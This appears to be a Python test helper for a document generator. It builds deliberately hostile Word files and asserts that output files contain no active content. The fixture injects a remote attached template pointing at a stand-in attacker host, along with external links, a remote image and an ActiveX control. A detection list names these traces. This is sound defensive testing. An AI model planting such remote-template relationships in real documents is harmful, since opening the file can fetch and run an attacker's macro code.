"""Templates made hostile from the default one, and a check that a DOCX carries nothing
active (macros, attached templates, external links, ActiveX, custom XML)."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from docgen.resources import DEFAULT_TEMPLATE

DOCUMENT = "word/document.xml"
NUMBER = "{{ 发文字号 }}"


def hostile(folder: Path, *, name: str = "hostile.docx",
            document: Callable[[str], str] = lambda xml: xml,
            parts: dict[str, bytes] | None = None,
            content_types: Callable[[str], str] = lambda xml: xml,
            compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """A copy of the default template with its document.xml, content types or parts changed."""
    path = folder / name
    with zipfile.ZipFile(DEFAULT_TEMPLATE) as source, \
            zipfile.ZipFile(path, "w", compression) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == DOCUMENT:
                data = document(data.decode("utf-8")).encode("utf-8")
            elif item.filename == "[Content_Types].xml":
                data = content_types(data.decode("utf-8")).encode("utf-8")
            target.writestr(item.filename, data)
        for part, data in (parts or {}).items():
            target.writestr(part, data)
    return path


REMOTE = "http://attacker.example/t.dotm"


def active_template(folder: Path) -> Path:
    """The default template with a remote attached template, an external link, a remote picture,
    an ActiveX control and custom XML (the default template has custom XML already)."""
    link = ('<w:hyperlink r:id="rIdLink"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
            '<w:r><w:pict><v:shape><v:imagedata r:id="rIdPic"/></v:shape></w:pict></w:r>'
            '<w:r><w:object><w:control r:id="rIdCtl"/></w:object></w:r>')

    def document(xml: str) -> str:
        return xml.replace(f"<w:r><w:t>{NUMBER}</w:t></w:r>",
                           f"<w:r><w:t>{NUMBER}</w:t></w:r>{link}")

    rels = (
        '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/hyperlink" Target="http://attacker.example/" TargetMode="External"/>'
        '<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="http://attacker.example/p.png" '
        'TargetMode="External"/>'
        '<Relationship Id="rIdCtl" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/control" Target="activeX/activeX1.xml"/>')
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="{REMOTE}" TargetMode="External"/></Relationships>')
    path = hostile(folder, name="active.docx", document=document, parts={
        "word/_rels/settings.xml.rels": settings_rels.encode(),
        "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas'
                                     b'.microsoft.com/office/2006/activeX" ax:classid="{x}"/>',
    })
    _patch(path, "word/_rels/document.xml.rels",
           lambda xml: xml.replace("</Relationships>", rels + "</Relationships>"))
    _patch(path, "word/settings.xml", lambda xml: re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', xml, count=1))
    return path


def _patch(path: Path, name: str, change: Callable[[str], str]) -> None:
    with zipfile.ZipFile(path) as source:
        entries = {item.filename: source.read(item) for item in source.infolist()}
    entries[name] = change(entries[name].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for entry, data in entries.items():
            target.writestr(entry, data)


def assert_nothing_active(docx: Path) -> None:
    with zipfile.ZipFile(docx) as archive:
        names = archive.namelist()
        xml = "".join(archive.read(name).decode("utf-8") for name in names
                      if name.endswith((".xml", ".rels")))
    assert not [name for name in names if re.search(r"customXml|activeX|vba", name, re.I)]
    for trace in ('TargetMode="External"', "attachedTemplate", "attacker.example",
                  "/customXml", "/control", "vbaProject", "w:control"):
        assert trace not in xml, trace
